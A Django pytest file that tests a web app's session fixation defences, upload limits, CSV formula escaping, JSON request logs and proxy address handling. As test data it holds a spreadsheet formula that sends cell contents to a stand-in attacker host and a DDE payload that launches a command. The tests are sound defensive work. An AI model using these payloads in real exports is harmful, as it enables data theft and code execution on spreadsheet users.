"""Web security: session fixation, upload limits, formula escaping in every CSV export,
structured logs. (Headers, CSRF on pages and API, and sign-in throttling are tested in
tests/accounts/test_sign_in.py; every URL against every role in test_authorisation_matrix.py.)"""

import csv
import io
import json
import logging

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from groundswell.accounts.models import Role
from groundswell.members.models import ImportJob
from tests import factories
from tests.factories import PASSWORD

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_signing_in_gives_a_new_session_key(users):
    """Session fixation: a session id planted before sign-in is worthless after it."""
    client = Client()
    client.get("/accounts/login/")
    session = client.session
    session["planted"] = "by an attacker"
    session.save()
    planted = session.session_key
    client.cookies["sessionid"] = planted
    response = client.post("/accounts/login/", {"username": users[Role.MEMBER].email, "password": PASSWORD})
    assert response.status_code == 302
    assert client.cookies["sessionid"].value != planted
    attacker = Client()
    attacker.cookies["sessionid"] = planted
    assert attacker.get("/").status_code == 302  # still signed out: sent to sign in


def test_signing_out_ends_the_session_for_good(users):
    client = Client()
    client.post("/accounts/login/", {"username": users[Role.MEMBER].email, "password": PASSWORD})
    key = client.cookies["sessionid"].value
    client.post("/accounts/logout/")
    replay = Client()
    replay.cookies["sessionid"] = key
    assert replay.get("/").status_code == 302


def test_an_upload_over_the_limit_is_refused_before_it_is_read(client_as, settings):
    settings.MAX_UPLOAD_BYTES = 1000
    big = SimpleUploadedFile("members.csv", b"x" * 3_000_000, content_type="text/csv")
    client = client_as(Role.NATIONAL_ADMIN)
    page = client.post("/members/import/", {"file": big})
    assert page.status_code == 413 and b"larger than the limit" in page.content
    big.seek(0)
    api = client.post("/api/members/import", {"file": big})
    assert api.status_code == 413 and "larger than the limit" in api.json()["detail"]
    assert not ImportJob.objects.exists()


def _cells(response) -> list[str]:
    text = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_every_csv_export_escapes_formulas(client_as, branches, users):
    """Names come from imports anyone could have typed into; no export may hand a
    spreadsheet a formula to run."""
    from groundswell.ballots.models import Elector
    from tests.ballots.factories import draft_ballot, open_ballot

    north, _ = branches
    evil = factories.person(branch=north, first_name=FORMULA, last_name="+SUM(1)", email="")
    admin = client_as(Role.NATIONAL_ADMIN)
    assert "'" + FORMULA in _cells(admin.get("/members/export.csv"))
    ballot = open_ballot(draft_ballot(users[Role.RETURNING_OFFICER]))
    assert Elector.objects.filter(ballot=ballot, person=evil).exists()
    postal = _cells(admin.post(f"/ballots/{ballot.pk}/postal.csv"))
    assert "'" + FORMULA in postal and "'+SUM(1)" in postal and FORMULA not in postal


def test_walk_sheet_csv_escapes_formulas(client_as, users, branches):
    from groundswell.groundgame.models import Elector
    from tests.test_authorisation_matrix import ground_game

    north, south = branches
    objects = ground_game(users, north, south)
    Elector.objects.filter(pk=objects["elector"]).update(last_name="=cmd|' /C calc'!A0")
    sheet = _cells(client_as(Role.CANVASSER).get(f"/walklists/list/{objects['walk_list']}/sheet.csv"))
    assert any(c.startswith("'") and "=cmd" in c for c in sheet)
    assert not any(c.startswith("=") for c in sheet)


def test_each_request_is_one_json_log_line(client_as, caplog):
    from groundswell.web.logs import JsonFormatter

    with caplog.at_level(logging.INFO, logger="groundswell.request"):
        client_as(Role.MEMBER).get("/motions/")
    record = next(r for r in caplog.records if r.name == "groundswell.request")
    line = json.loads(JsonFormatter().format(record))
    assert line["path"] == "/motions/" and line["status"] == 200 and line["method"] == "GET"
    assert line["ms"] >= 0 and isinstance(line["user"], int) and line["level"] == "INFO"


def test_behind_the_proxy_throttles_count_the_real_client(rf, settings):
    """Behind the load balancer every request comes from the balancer: the throttles must use
    the address the proxy appended, not the balancer's, and not one the client made up."""
    from groundswell.web.client import client_address

    request = rf.get("/", REMOTE_ADDR="10.0.0.2", HTTP_X_FORWARDED_FOR="6.6.6.6, 203.0.113.7")
    settings.BEHIND_PROXY = False
    assert client_address(request) == "10.0.0.2"  # no proxy: the header is the client's own words
    settings.BEHIND_PROXY = True
    assert client_address(request) == "203.0.113.7"
